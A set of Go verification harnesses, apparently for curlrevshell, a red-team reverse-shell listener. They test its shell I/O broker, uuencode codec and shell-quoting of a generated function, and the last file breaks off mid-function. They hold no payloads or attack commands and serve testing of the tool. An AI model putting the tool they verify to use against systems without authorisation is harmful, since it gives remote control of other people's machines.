		verifAssert(verifLogMsg(0) == LMNewConnection && verifLogLevel(0) == 0, "C11.admitted.new-connection-record")
		verifAssert(verifLogMsg(1) == LMDisconnected, "C11.admitted.disconnected-record")
		if proxyErr {
			verifAssert(verifLogLevel(1) == 8 && verifLogAttr(1, LKError) == "transport failed", "C11.admitted.error-recorded")
		} else {
			verifAssert(verifLogLevel(1) == 0, "C11.admitted.clean-disconnect-is-info")
		}
		verifAssert(verifLogAttr(0, LKDirection) == string(dir), "C11.admitted.direction-attr")
	}
	b.wg.Wait()
	verifReach("C01.admitted")
}

// HarnessC01Init: a freshly constructed broker is idle (satisfies I with nothing attached).
func HarnessC01Init() {
	b, err := New(make(chan string), make(chan opshell.CLine))
	verifAssert((err == nil) == (b != nil), "C01.init.ok")
	if b != nil {
		verifReach("C01.init.broker")
		verifAssert(b.key == "" && b.cancelIn == nil && b.cancelOut == nil && !getFlag(&b.noMore), "C01.init.idle")
		verifAssert(len(b.bidirKey) == bidirKeyLen, "C01.init.bidirkey-len")
	}
	verifReach("C01.init")
}

// setFlag / getFlag: access to a boolean field whatever its representation (plain bool or
// sync/atomic.Bool), so that the harness survives that refactor.
func setFlag(p any, v bool) {
	switch x := p.(type) {
	case *bool:
		*x = v
	case interface{ Store(bool) }:
		x.Store(v)
	default:
		verifAssert(false, "harness: unknown flag representation")
	}
}

func getFlag(p any) bool {
	switch x := p.(type) {
	case *bool:
		return *x
	case interface{ Load() bool }:
		return x.Load()
	}
	verifAssert(false, "harness: unknown flag representation")
	return false
}
