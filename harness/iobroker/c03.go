package iobroker

// Harnesses for C03 (shell output reaches the operator byte-exact, in order, up to end of
// stream), the output half of C11 and the goroutine-leak clause of C04.  The real proxyOut
// (forwarder + reader goroutine) runs under the engine's scheduler against a stub reader
// whose k results (0..2 symbolic bytes each, terminal error class symbolic) cover every
// chunking, and an operator goroutine that drains the channel at arbitrary points.

import (
	"context"
	"errors"
	"io"

	"github.com/magisterquis/curlrevshell/lib/opshell"
)

type readRes struct {
	data []byte
	err  error
}

type stubReader struct {
	results  []readRes
	pos      int
	produced []byte
	closed   bool // transport closed: every further Read fails at once
	calls    int
}

var errStubRead = errors.New("stub read error")

func (r *stubReader) Read(p []byte) (int, error) {
	verifYield()
	r.calls++
	if r.closed || r.pos >= len(r.results) {
		return 0, io.ErrClosedPipe
	}
	res := r.results[r.pos]
	r.pos++
	n := copy(p, res.data)
	r.produced = append(r.produced, res.data[:n]...)
	return n, res.err
}

// mkReader builds a transport that yields k results.  shape 0: one symbolic byte per read;
// shape 1: a zero-length read first, then two bytes per read; shape 2: lengths chosen by the
// solver's fork (0..2 each).  The last result carries the terminal error of class cls
// (0 EOF, 1 unexpected EOF, 2 closed pipe, 3 other) together with its data.
func mkReader(k int) (*stubReader, int) {
	r := &stubReader{}
	shape := verifParam("shape")
	cls := verifParam("cls")
	if cls < 0 {
		cls = nondetChoice(4)
	}
	for i := 0; i < k; i++ {
		n := 1
		switch shape {
		case 1:
			n = 2
			if i == 0 {
				n = 0
			}
		case 2:
			n = nondetLen(2)
		}
		d := nondetBytes(n, 0)
		var err error
		if i == k-1 {
			switch cls {
			case 0:
				err = io.EOF
			case 1:
				err = io.ErrUnexpectedEOF
			case 2:
				err = io.ErrClosedPipe
			default:
				err = errStubRead
			}
		}
		r.results = append(r.results, readRes{d, err})
	}
	return r, cls
}

type opState struct {
	lines []opshell.CLine
	done  chan struct{}
}

func startOperator(och chan opshell.CLine) *opState {
	o := &opState{done: make(chan struct{})}
	go func() {
		verifActor()
		for cl := range och {
			o.lines = append(o.lines, cl)
		}
		close(o.done)
	}()
	return o
}

func concatPlain(lines []opshell.CLine) []byte {
	var out []byte
	for _, cl := range lines {
		if cl.Plain {
			out = append(out, cl.Line...)
		}
	}
	return out
}

func isPrefix(a, b []byte) bool {
	if len(a) > len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func checkPlainLines(lines []opshell.CLine) {
	for _, cl := range lines {
		if cl.Plain {
			verifAssert(cl.Color == opshell.ColorNone && cl.Prompt == "" && !cl.NoTimestamp, "C03.plain-and-nothing-else")
			verifAssert(cl.Line != "", "C03.no-empty-chunks")
		}
	}
}

func checkOutputLog(delivered []opshell.CLine) {
	// exactly one Shell I/O record per chunk handed to the operator, same bytes, same order
	n := 0
	for _, cl := range delivered {
		if !cl.Plain {
			continue
		}
		if n < verifLogCount() {
			verifAssert(verifLogMsg(n) == LMShellIO && verifLogAttr(n, LKData) == cl.Line, "C11.output.record-matches-chunk")
		}
		n++
	}
	verifAssert(verifLogCount() == n, "C11.output.one-record-per-delivered-chunk")
}

// HarnessC03Stream: the stream ends by itself (no cancellation): everything produced,
// including data returned together with the terminal error, is delivered in order.
func HarnessC03Stream() {
	k := verifParam("k")
	och := make(chan opshell.CLine, verifParam("cap"))
	b := &Broker{ich: make(chan string), och: och}
	r, cls := mkReader(k)
	op := startOperator(och)
	sl := verifNewLogger()
	err := b.proxyOut(context.Background(), sl, r)
	close(och)
	<-op.done
	got := concatPlain(op.lines)
	want := r.produced
	if verifCanary() && len(want) > 0 {
		want = want[:len(want)-1]
	}
	verifAssert(string(got) == string(want), "C03.everything-delivered-in-order")
	checkPlainLines(op.lines)
	checkOutputLog(op.lines)
	// the transcript is complete: everything received from the shell before the stream's own end is logged
	var logged []byte
	for i := 0; i < verifLogCount(); i++ {
		if verifLogMsg(i) == LMShellIO {
			logged = append(logged, verifLogAttr(i, LKData)...)
		}
	}
	verifAssert(string(logged) == string(r.produced), "C11.output.everything-received-is-logged")
	if cls == 3 {
		verifAssert(err != nil && errors.Is(err, errStubRead), "C03.real-error-reported")
	} else {
		verifAssert(err == nil, "C03.benign-end-is-nil")
	}
	r.closed = true
	verifQuiesce()
	verifAssert(verifLive() == 0, "C04.no-goroutine-left-after-stream-end")
	verifReach("C03.stream.end")
}

// HarnessC03Cancel: the context is cancelled at an arbitrary point; what was delivered is a
// prefix of what was produced; after the transport is closed no goroutine of the shell is left.
func HarnessC03Cancel() {
	k := verifParam("k")
	och := make(chan opshell.CLine, verifParam("cap"))
	b := &Broker{ich: make(chan string), och: och}
	r, _ := mkReader(k)
	stalled := verifParam("stalled") == 1
	var op *opState
	if !stalled {
		op = startOperator(och)
	}
	ctx, cancel := context.WithCancel(context.Background())
	go func() {
		verifActor()
		verifYield()
		cancel()
	}()
	sl := verifNewLogger()
	err := b.proxyOut(ctx, sl, r)
	verifAssert(err == nil || errors.Is(err, errStubRead), "C03.cancel.return-value")
	// the handler returns: net/http closes the request body
	r.closed = true
	verifQuiesce()
	var lines []opshell.CLine
	if !stalled {
		close(och)
		<-op.done
		lines = op.lines
	} else {
		lines = drain(och)
	}
	got := concatPlain(lines)
	verifAssert(isPrefix(got, r.produced), "C03.shown-is-prefix-of-sent")
	checkPlainLines(lines)
	checkOutputLog(lines)
	verifAssert(verifLive() == 0, "C04.no-goroutine-left-after-cancel")
	verifReach("C03.cancel.end")
}

// HarnessC03Notice: through ConnectOut, the "connection closed" notice comes after the last chunk.
func HarnessC03Notice() {
	k := verifParam("k")
	och := make(chan opshell.CLine, 16)
	b := &Broker{ich: make(chan string), och: och, evCh: make(chan Event, 16), evListeners: map[chan<- Event]struct{}{}}
	r, _ := mkReader(k)
	sl := verifNewLogger()
	b.ConnectOut(context.Background(), sl, "addr", r, "id")
	lines := drain(och)
	seenClosed := false
	for _, cl := range lines {
		if cl.Plain {
			verifAssert(!seenClosed, "C03.closed-notice-after-last-chunk")
		} else if len(cl.Line) >= 31 && cl.Line[:31] == "[addr] Output connection closed" {
			seenClosed = true
		}
	}
	verifAssert(seenClosed, "C03.closed-notice-present")
	verifAssert(string(concatPlain(lines)) == string(r.produced), "C03.notice.all-delivered")
	verifQuiesce()
	verifReach("C03.notice.end")
}

// cancellingReader delivers k one-byte chunks and cancels the request context inside the
// last Read (the client goes away right after sending), then reports the transport as closed.
type cancellingReader struct {
	k      int
	n      int
	cancel func()
	data   []byte
}

func (r *cancellingReader) Read(p []byte) (int, error) {
	if r.n >= r.k {
		return 0, io.ErrClosedPipe
	}
	p[0] = r.data[r.n]
	r.n++
	if r.n == r.k || r.n == 3 {
		// the forwarder holds one chunk and the reader's queue two more: the client goes away now
		r.cancel()
	}
	return 1, nil
}

// HarnessC04Leak: output flood with a stalled terminal (nobody receives from the operator
// channel), then the context is cancelled: after proxyOut has returned and the transport is
// closed, no goroutine belonging to the shell may be left.  Deterministic, so the witness
// replays natively.
func HarnessC04Leak() {
	k := verifParam("k")
	och := make(chan opshell.CLine) // stalled terminal
	b := &Broker{ich: make(chan string), och: och}
	ctx, cancel := context.WithCancel(context.Background())
	r := &cancellingReader{k: k, cancel: cancel, data: nondetBytes(k, 0)}
	err := b.proxyOut(ctx, verifNewLogger(), r)
	verifAssert(err == nil, "C04.leak.cancel-is-benign")
	verifQuiesce()
	verifAssert(verifLive() == 0, "C04.no-goroutine-left-under-flood")
	verifReach("C04.leak.end")
}
