package iobroker

// Harness for C06: both halves of a bidirectional /io shell come from the same request.
//
// N real ConnectInOut calls (one per simultaneous /io request) run as goroutines under the
// engine's scheduler, so every order in which their halves reach the broker's admission
// section is explored.  Each request has its own tagged transport stubs: a reader whose Read
// parks (the half stays attached) and records that its request's output half was admitted,
// and a writer that records which request's input half received the operator's line.

import (
	"context"
	"io"

	"github.com/magisterquis/curlrevshell/lib/opshell"
)

type tagW struct {
	tag  int
	last *int
	n    *int
}

func (w tagW) Write(p []byte) (int, error) { *w.last = w.tag; *w.n++; return len(p), nil }

type tagR struct {
	tag     int
	reading *[8]bool
	release chan struct{}
	eof     bool // the request body is already at EOF: the output half comes and goes
}

func (r tagR) Read(p []byte) (int, error) {
	r.reading[r.tag] = true
	if !r.eof {
		<-r.release
	}
	r.reading[r.tag] = false
	return 0, io.EOF
}

// HarnessC06Pairing: n simultaneous /io requests (optionally with a unidirectional input or
// output stream already attached).  Once the broker announces a complete shell, the operator
// enters a line: the request whose writer receives it must be the request whose reader is
// being read, and no other request's reader may be in use.
func HarnessC06Pairing() {
	n := verifParam("n")
	pre := verifParam("pre") // 0: idle broker, 1: unidirectional input attached, 2: unidirectional output attached
	och := make(chan opshell.CLine, 64)
	ich := make(chan string, 4)
	b := &Broker{ich: ich, och: och, bidirKey: nondetString(verifParam("Lb")), evCh: make(chan Event, 16), evListeners: map[chan<- Event]struct{}{}}
	verifAssume(b.bidirKey != "uid" && b.bidirKey != "")
	sl := verifNewLogger()
	var reading [8]bool
	lastW, nW := 0, 0
	release := make(chan struct{})
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan int, 8)
	if pre == 1 {
		go func() {
			b.ConnectIn(ctx, sl, "U", tagW{tag: 7, last: &lastW, n: &nW}, "uid")
			done <- 7
		}()
	} else if pre == 2 {
		go func() {
			b.ConnectOut(ctx, sl, "U", tagR{tag: 7, reading: &reading, release: release}, "uid")
			done <- 7
		}()
	}
	eofN := verifParam("eof") // requests 1..eofN have an empty body (their output half ends at once)
	for i := 1; i <= n; i++ {
		tag := i
		go func() {
			b.ConnectInOut(ctx, sl, "R", tagW{tag: tag, last: &lastW, n: &nW}, tagR{tag: tag, reading: &reading, release: release, eof: tag <= eofN})
			done <- tag
		}()
	}
	total := n
	if pre != 0 {
		total++
	}
	returned := 0
	// run until nothing can move any more, then look at what is attached
	verifQuiesce()
	b.mu.Lock()
	formed := b.cancelIn != nil && b.cancelOut != nil
	b.mu.Unlock()
	if formed {
		ich <- "id"
		verifQuiesce()
		verifAssert(nW == 1, "C06.exactly-one-input-half-gets-the-line")
		readers := 0
		other := false
		for t := 1; t < 8; t++ {
			if reading[t] {
				readers++
				if t != lastW {
					other = true
				}
			}
		}
		if verifCanary() {
			other = !other
		}
		verifAssert(readers == 1, "C06.exactly-one-output-half-attached")
		verifAssert(!other, "C06.halves-of-different-requests-never-pair")
		verifReach("C06.shell-formed")
	}
	cancel()
	close(release)
	for returned < total {
		<-done
		returned++
	}
	verifReach("C06.pairing.end")
}
