package uu

// Harnesses for C15 (uuencode is Perl-compatible and round-trips; decoding is total and pure).
// Executed symbolically by symgo; compiled natively for replay / translator validation.

import (
	"bytes"
	"errors"
)

// refPack is Perl's pack('u', src), written from the perldoc description: lines of at most
// 45 input bytes; each line is chr(32+len), then for every 3-byte group (zero padded) four
// characters, each carrying six bits, value v encoded as chr(32+v) except 0 which is '`';
// then "\n".  Empty input gives empty output.
func refPack(src []byte) []byte {
	out := []byte{}
	for start := 0; start < len(src); start += 45 {
		end := start + 45
		if end > len(src) {
			end = len(src)
		}
		n := end - start
		out = append(out, refChar(uint32(n)))
		for g := start; g < end; g += 3 {
			var w uint32
			for k := 0; k < 3; k++ {
				w <<= 8
				if g+k < end {
					w |= uint32(src[g+k])
				}
			}
			out = append(out, refChar(w>>18&63), refChar(w>>12&63), refChar(w>>6&63), refChar(w&63))
		}
		out = append(out, '\n')
	}
	return out
}

func refChar(v uint32) byte {
	if v == 0 {
		return '`'
	}
	return byte(32 + v)
}

// refUnpack is Perl's unpack('u', text) for text made of newline-terminated lines: the
// first character of a line gives the byte count (c-32)&63, each following group of four
// characters yields three bytes of six bits each ((c-32)&63), and only `count` bytes of a
// line are kept.
func refUnpack(text []byte) []byte {
	out := []byte{}
	i := 0
	for i < len(text) {
		n := verifConcreteInt(int((text[i] - 32) & 63))
		i++
		got := 0
		for got < n && i+3 < len(text) && text[i] != '\n' {
			var w uint32
			for k := 0; k < 4; k++ {
				w = w<<6 | uint32((text[i+k]-32)&63)
			}
			i += 4
			for k := 0; k < 3 && got < n; k++ {
				out = append(out, byte(w>>(16-8*uint(k))))
				got++
			}
		}
		for i < len(text) && text[i] != '\n' {
			i++
		}
		i++ // newline
	}
	return out
}

// encodedLenRef is the closed form of the encoded length: per full or partial line
// 1 + 4*ceil(len/3) + 1.
func encodedLenRef(n int) int {
	full := n / 45
	rem := n % 45
	l := full * (1 + 60 + 1)
	if rem > 0 {
		l += 1 + 4*((rem+2)/3) + 1
	}
	return l
}

func sameBytes(a, b []byte) bool { return bytes.Equal(a, b) }

// HarnessE1: AppendEncode(dst, src) == dst ++ refPack(src) for all src of length n, with a
// symbolic pre-existing dst of length d (spare capacity s); MaxEncodedLen never under-estimates.
func HarnessE1() {
	n := verifParam("n")
	d := verifParam("d")
	src := nondetBytes(n, 0)
	var dst []byte
	if d >= 0 {
		dst = nondetBytes(d, verifParam("s"))
	}
	pre := append([]byte{}, dst...)
	got := AppendEncode(dst, src)
	want := append(pre, refPack(src)...)
	if verifCanary() && len(want) > len(pre)+1 {
		want[len(pre)+1] ^= 1
	}
	verifObserve("enc", got)
	verifAssert(len(got) == len(want), "E1.len")
	verifAssert(sameBytes(got, want), "E1.bytes")
	verifAssert(len(got)-len(pre) == encodedLenRef(n), "E1.closedform")
	verifAssert(len(got)-len(pre) <= MaxEncodedLen(src), "E1.maxlen")
	verifReach("E1.end")
}

// HarnessE2: decoding the encoder's output (with this decoder and with the Perl reference)
// returns the original bytes appended to the caller's buffer.
func HarnessE2() {
	n := verifParam("n")
	d := verifParam("d")
	src := nondetBytes(n, 0)
	enc := AppendEncode(nil, src)
	var dst []byte
	if d >= 0 {
		dst = nondetBytes(d, verifParam("s"))
	}
	pre := append([]byte{}, dst...)
	dec, err := AppendDecode(dst, enc)
	verifObserve("enc", enc)
	verifObserve("dec", dec)
	verifAssert(err == nil, "E2.noerr")
	want := append(pre, src...)
	if verifCanary() && len(want) > 0 {
		want[len(want)-1] ^= 0x80
	}
	verifAssert(len(dec) == len(want), "E2.len")
	verifAssert(sameBytes(dec, want), "E2.bytes")
	verifAssert(sameBytes(refUnpack(enc), src), "E2.perl-unpack")
	verifAssert(len(dec)-len(pre) <= MaxDecodedLen(enc), "E2.maxdecodedlen")
	verifReach("E2.end")
}

func checkDecodeError(err error, nlines int, text []byte, label string) {
	var de DecodeError
	ok := errors.As(err, &de)
	verifAssert(ok, label+".is-DecodeError")
	if !ok {
		return
	}
	verifAssert(de.Line >= 0 && de.Line < nlines, label+".line-in-range")
	verifAssert(de.Offset >= 0 && de.Offset <= len(text), label+".offset-in-range")
	kind := 0
	switch de.Err.(type) {
	case InvalidLengthCharacterError:
		kind = 1
	case InvalidEncodedCharacterError:
		kind = 2
	case IncorrectDataLenError:
		kind = 3
	default:
		if de.Err == ErrInvalidDataLen {
			kind = 4
		}
	}
	verifAssert(kind != 0, label+".declared-kind")
}

// HarnessE3: the decoder is total on any single line of length L (no newline inside): no
// panic, decoded bytes agree with the Perl reference whenever it accepts, errors locate the
// problem, MaxDecodedLen never under-estimates.
func HarnessE3() {
	L := verifParam("L")
	line := nondetBytes(L, 0)
	for i := range line {
		verifAssume(line[i] != '\n')
	}
	crlf := verifParam("crlf")
	text := line
	if crlf == 1 {
		text = append(append([]byte{}, line...), '\r')
	}
	keep := append([]byte{}, text...)
	dec, err := AppendDecode(nil, text)
	verifObserve("dec", dec)
	verifAssert(sameBytes(text, keep), "E3.src-unchanged")
	if err != nil {
		verifAssert(dec == nil, "E3.nil-on-error")
		checkDecodeError(err, 1, text, "E3.err")
		var de DecodeError
		if errors.As(err, &de) {
			verifAssert(de.Line == 0, "E3.err.line0")
			verifAssert(de.Offset < len(text) || len(text) == 0, "E3.err.offset-inside")
		}
		verifReach("E3.error")
		return
	}
	verifAssert(len(dec) <= MaxDecodedLen(text), "E3.maxdecodedlen")
	// Perl compatibility is claimed for text the encoder can produce: a length character
	// outside the alphabet (an over-long length byte >= 'a') is invalid text, for which the
	// statement demands totality only - Perl's unpack stops at such a line, this decoder
	// takes the un-masked count
	if len(line) > 0 && line[0] <= 96 && !(crlf == 0 && line[len(line)-1] == '\r') {
		want := refUnpack(append(append([]byte{}, line...), '\n'))
		if verifCanary() && len(want) > 0 {
			want[0] ^= 4
		}
		verifAssert(sameBytes(dec, want), "E3.agrees-with-perl")
		verifReach("E3.decoded")
	}
	verifReach("E3.ok")
}

// HarnessE4: the decoder is total on arbitrary text of length M, newlines and CRs included.
func HarnessE4() {
	M := verifParam("M")
	text := nondetBytes(M, 0)
	keep := append([]byte{}, text...)
	nl := 0
	for i := range text {
		if text[i] == '\n' {
			nl++
		}
	}
	dst := nondetBytes(2, 2)
	pre := append([]byte{}, dst...)
	dec, err := AppendDecode(dst, text)
	verifObserve("dec", dec)
	verifAssert(sameBytes(text, keep), "E4.src-unchanged")
	verifAssert(sameBytes(dst[:2], pre), "E4.dst-prefix-unchanged")
	if err != nil {
		verifAssert(dec == nil, "E4.nil-on-error")
		checkDecodeError(err, nl+1, text, "E4.err")
		// the error LOCATES the problem: the line it names is rejected when decoded on its
		// own, and everything before that line decodes
		var de DecodeError
		if errors.As(err, &de) && de.Line >= 0 && de.Line <= nl {
			ln := verifConcreteInt(de.Line)
			start, end, cur := 0, len(text), 0
			for i := range text {
				if text[i] == '\n' {
					cur++
					if cur == ln {
						start = i + 1
					}
					if cur == ln+1 {
						end = i
						break
					}
				}
			}
			_, errLine := AppendDecode(nil, append([]byte{}, text[start:end]...))
			okLine := errLine != nil
			if verifCanary() {
				okLine = errLine == nil
			}
			verifAssert(okLine, "E4.err.named-line-is-the-bad-one")
			if start > 0 {
				_, errBefore := AppendDecode(nil, append([]byte{}, text[:start-1]...))
				verifAssert(errBefore == nil, "E4.err.lines-before-the-named-one-are-fine")
			}
		}
		verifReach("E4.error")
		return
	}
	verifAssert(len(dec) >= 2 && sameBytes(dec[:2], pre), "E4.result-extends-dst")
	verifAssert(len(dec)-2 <= MaxDecodedLen(text), "E4.maxdecodedlen")
	verifReach("E4.ok")
}

// HarnessE5: purity.  Neither function writes to its source (len bytes and spare capacity)
// nor to the existing contents of its destination; legal aliasing (dst's spare capacity
// lying directly behind src in the same array) does not change the result.
func HarnessE5() {
	n := verifParam("n")
	spare := verifParam("spare")
	alias := verifParam("alias")
	var src, dst []byte
	if alias == 1 {
		buf := nondetBytes(n, 70)
		src = buf[:n]
		dst = buf[n:n]
	} else {
		src = nondetBytes(n, spare)
		dst = nondetBytes(2, 3)
	}
	srcAll := append([]byte{}, src[:cap(src)]...)
	dstPre := append([]byte{}, dst...)
	enc := AppendEncode(dst, src)
	verifAssert(sameBytes(src, srcAll[:n]), "E5.enc.src-unchanged")
	if alias == 0 {
		verifAssert(sameBytes(src[:cap(src)], srcAll), "E5.enc.src-spare-unchanged")
	}
	verifAssert(sameBytes(dst, dstPre), "E5.enc.dst-contents-unchanged")
	verifAssert(sameBytes(enc[len(dstPre):], refPack(srcAll[:n])), "E5.enc.result")

	// decoder: source is the encoded text with spare capacity, destination pre-filled
	etext := append(make([]byte, 0, len(enc)+4), enc[len(dstPre):]...)
	eAll := append([]byte{}, etext[:cap(etext)]...)
	ddst := nondetBytes(1, 2)
	dpre := append([]byte{}, ddst...)
	dec, err := AppendDecode(ddst, etext)
	verifAssert(err == nil, "E5.dec.noerr")
	verifAssert(sameBytes(etext[:cap(etext)], eAll), "E5.dec.src-unchanged")
	verifAssert(sameBytes(ddst, dpre), "E5.dec.dst-contents-unchanged")
	verifAssert(len(dec) == 1+n && sameBytes(dec[1:], srcAll[:n]), "E5.dec.result")
	verifReach("E5.end")
}

// HarnessE6: MaxEncodedLen / MaxDecodedLen arithmetic over a symbolic length (no slice is
// built: the functions only look at len).  closed form <= bound for every n < 2^31.
func HarnessE6() {
	n := nondetInt()
	verifAssume(n >= 0 && n < 1<<31)
	enc := encodedLenRef(n)
	bound := 63 * (1 + n/45) // the documented bound, restated; tied to the code by E1.maxlen
	verifAssert(enc <= bound, "E6.closedform-le-bound")
	verifAssert(enc >= 0, "E6.nonneg")
	verifReach("E6.end")
}

// HarnessE3Len: one well-formed-looking line for a CONCRETE length character lb (sweep covers
// over-long length bytes up to 0xFF) with symbolic data characters inside the alphabet: the
// decoder must not panic; when it accepts, the decoded length is what the length character says
// and the bytes agree with the six-bit reference.
func HarnessE3Len() {
	lb := verifParam("lb")
	nDec := lb - 32
	if lb == '`' {
		nDec = 0 // the backtick is the zero-length line
	}
	k := (nDec + 2) / 3
	L := 1 + 4*k
	line := nondetBytes(L, 0)
	line[0] = byte(lb)
	for i := 1; i < L; i++ {
		line[i] = 32 + line[i]&63 // inside the alphabet (value range visible to the engine)
	}
	keep := append([]byte{}, line...)
	dec, err := AppendDecode(nil, line)
	verifAssert(sameBytes(line, keep), "E3N.src-unchanged")
	// lines the encoder can produce (up to 'M' = 45 bytes, and the zero-length line) must be
	// accepted; longer length characters are Perl-decodable up to '_' and invalid beyond: the
	// decoder may accept or reject those, but must not panic, and what it accepts inside the
	// alphabet must be what Perl yields
	if lb <= 'M' || lb == '`' {
		verifAssert(err == nil, "E3N.wellformed-line-accepted")
	}
	if err != nil {
		checkDecodeError(err, 1, line, "E3N.err")
		verifReach("E3N.rejected-overlong")
		return
	}
	verifAssert(len(dec) <= MaxDecodedLen(line), "E3N.maxdecodedlen")
	if lb > 96 {
		verifReach("E3N.accepted-overlong")
		return
	}
	verifAssert(len(dec) == nDec, "E3N.decoded-length-is-what-the-length-character-says")
	// six-bit reference for the data part
	want := []byte{}
	for g := 0; g < k; g++ {
		var w uint32
		for j := 0; j < 4; j++ {
			w = w<<6 | uint32((line[1+4*g+j]-32)&63)
		}
		want = append(want, byte(w>>16), byte(w>>8), byte(w))
	}
	want = want[:nDec]
	if verifCanary() && len(want) > 0 {
		want[len(want)-1] ^= 1
	}
	verifAssert(sameBytes(dec, want), "E3N.decoded-bytes")
	verifReach("E3N.ok")
}
