package uu

import "bytes"

// refPack is Perl's pack('u', src), written from the perldoc description: lines of at most
// 45 input bytes; each line is chr(32+len), then for every 3-byte group (zero padded) four
// characters, each carrying six bits, value v encoded as chr(32+v) except 0 which is '`';
// then "\n".  Empty input gives empty output.
func refPack(src []byte) []byte {
	out := []byte{}
	for start := 0; start < len(src); start += 45 {
		end := start + 45
		if end > len(src) {
			end = len(src)
		}
		n := end - start
		out = append(out, refChar(uint32(n)))
		for g := start; g < end; g += 3 {
			var w uint32
			for k := 0; k < 3; k++ {
				w <<= 8
				if g+k < end {
					w |= uint32(src[g+k])
				}
			}
			out = append(out, refChar(w>>18&63), refChar(w>>12&63), refChar(w>>6&63), refChar(w&63))
		}
		out = append(out, '\n')
	}
	return out
}

func refChar(v uint32) byte {
	if v == 0 {
		return '`'
	}
	return byte(32 + v)
}

// HarnessE1: AppendEncode(dst, src) == dst ++ refPack(src) for all src of length n.
func HarnessE1() {
	n := verifParam("n")
	src := nondetBytes(n, 0)
	got := AppendEncode(nil, src)
	want := refPack(src)
	if verifCanary() && len(want) > 1 {
		want[1] ^= 1
	}
	verifAssert(len(got) == len(want), "E1.len")
	verifAssert(bytes.Equal(got, want), "E1.bytes")
	verifAssert(len(got) <= MaxEncodedLen(src), "E1.maxlen")
	verifReach("E1.end")
}
