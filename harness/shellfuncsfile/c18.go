package shellfuncsfile

// Harness for C18 (the generated tab_list function is quote-safe).
//
// The table stage is over-approximated: text/tabwriter is stubbed so that the buffer which the
// real GenFuncList then splits, filters, sorts, compacts, escapes and renders contains r rows
// of ARBITRARY bytes (every value except NUL and newline inside a row).  Whatever the real
// tab-writer produces is one of these buffers, so quote safety of the rendering covers every
// TABDOC text.  The generated text is taken apart by a small POSIX-shell lexer written from
// the shell grammar (refShWord), not by the code's own constants.

import (
	"io"
	"text/tabwriter"
)

//verif:stub text/tabwriter.NewWriter stubTabNewWriter
//verif:stub (*text/tabwriter.Writer).Write stubTabWrite
//verif:stub (*text/tabwriter.Writer).Flush stubTabFlush

var (
	tabOut  io.Writer
	tabRows [][]byte
)

func stubTabNewWriter(output io.Writer, minwidth, tabwidth, padding int, padchar byte, flags uint) *tabwriter.Writer {
	tabOut = output
	return &tabwriter.Writer{}
}

func stubTabWrite(w *tabwriter.Writer, buf []byte) (int, error) { return len(buf), nil }

func stubTabFlush(w *tabwriter.Writer) error {
	for i, row := range tabRows {
		if i > 0 {
			tabOut.Write([]byte{'\n'})
		}
		tabOut.Write(row)
	}
	tabOut.Write([]byte{'\n'})
	return nil
}

// refShWord lexes, by the POSIX shell rules, the single word that starts at s[i:] and runs to
// the end of s: unquoted '...' sections are literal up to the next quote, \' outside quotes is
// a literal quote, adjacent sections concatenate.  Any other character outside quotes is an
// active or word-splitting character and makes the word unsafe.
func refShWord(s []byte) (word []byte, safe bool) {
	i := 0
	word = []byte{}
	for i < len(s) {
		switch {
		case s[i] == '\'':
			i++
			for i < len(s) && s[i] != '\'' {
				word = append(word, s[i])
				i++
			}
			if i >= len(s) {
				return word, false // unterminated quote
			}
			i++
		case s[i] == '\\' && i+1 < len(s) && s[i+1] == '\'':
			word = append(word, '\'')
			i += 2
		default:
			return word, false // something active outside quotes
		}
	}
	return word, true
}

func splitLines(b []byte) [][]byte {
	var out [][]byte
	start := 0
	for i := range b {
		if b[i] == '\n' {
			out = append(out, b[start:i])
			start = i + 1
		}
	}
	if start < len(b) {
		out = append(out, b[start:])
	}
	return out
}

func lessBytes(a, b []byte) bool { return string(a) < string(b) }

// HarnessC18Quote: r rows of up to m arbitrary bytes each.
func HarnessC18Quote() {
	r := verifParam("r")
	m := verifParam("m")
	tabRows = nil
	for i := 0; i < r; i++ {
		row := nondetBytes(nondetLen(m), 0)
		for j := range row {
			verifAssume(row[j] != 0 && row[j] != '\n')
		}
		tabRows = append(tabRows, row)
	}
	out, err := GenFuncList("# TABDOC: x y")
	verifAssert(err == nil, "C18.no-error")
	lines := splitLines(out)
	verifAssert(len(lines) >= 2, "C18.has-frame")
	if len(lines) < 2 {
		return
	}
	verifAssert(string(lines[0]) == "tab_list() {", "C18.opens-function")
	verifAssert(string(lines[len(lines)-1]) == "}", "C18.closes-function")
	body := lines[1 : len(lines)-1]
	// expected rows: the distinct non-empty rows, sorted
	var want [][]byte
	for _, row := range tabRows {
		if len(row) == 0 {
			continue
		}
		dup := false
		for _, w := range want {
			if string(w) == string(row) {
				dup = true
			}
		}
		if !dup {
			want = append(want, row)
		}
	}
	for i := 0; i < len(want); i++ {
		for j := i + 1; j < len(want); j++ {
			if lessBytes(want[j], want[i]) {
				want[i], want[j] = want[j], want[i]
			}
		}
	}
	if verifCanary() && len(want) > 0 {
		want = want[1:]
	}
	verifAssert(len(body) == len(want), "C18.one-line-per-distinct-row")
	if len(body) != len(want) {
		return
	}
	const pre = "        echo "
	for i, l := range body {
		verifAssert(len(l) > len(pre) && string(l[:len(pre)]) == pre, "C18.line-is-echo")
		if len(l) <= len(pre) {
			return
		}
		word, safe := refShWord(l[len(pre):])
		verifAssert(safe, "C18.nothing-active-outside-quotes")
		verifAssert(string(word) == string(want[i]), "C18.echo-gets-the-row-as-one-literal-word")
	}
	verifReach("C18.quote.end")
}
