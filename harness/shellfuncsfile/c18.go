package shellfuncsfile

// Harness for C18 (the generated tab_list function is quote-safe).
//
// The table stage is over-approximated: text/tabwriter is stubbed so that the buffer which the
// real GenFuncList then splits, filters, sorts, compacts, escapes and renders contains r rows
// of ARBITRARY bytes (every value except NUL and newline inside a row).  Whatever the real
// tab-writer produces is one of these buffers, so quote safety of the rendering covers every
// TABDOC text.  The generated text is taken apart by a small POSIX-shell lexer written from
// the shell grammar (refShWord), not by the code's own constants.

import (
	"io"
	"text/tabwriter"
)

//verif:stub text/tabwriter.NewWriter stubTabNewWriter
//verif:stub (*text/tabwriter.Writer).Write stubTabWrite
//verif:stub (*text/tabwriter.Writer).Flush stubTabFlush

var (
	tabOut  io.Writer
	tabRows [][]byte
)

func stubTabNewWriter(output io.Writer, minwidth, tabwidth, padding int, padchar byte, flags uint) *tabwriter.Writer {
	tabOut = output
	return &tabwriter.Writer{}
}

var tabWritten []byte // everything the code wrote into the tab-writer (the cells)

func stubTabWrite(w *tabwriter.Writer, buf []byte) (int, error) {
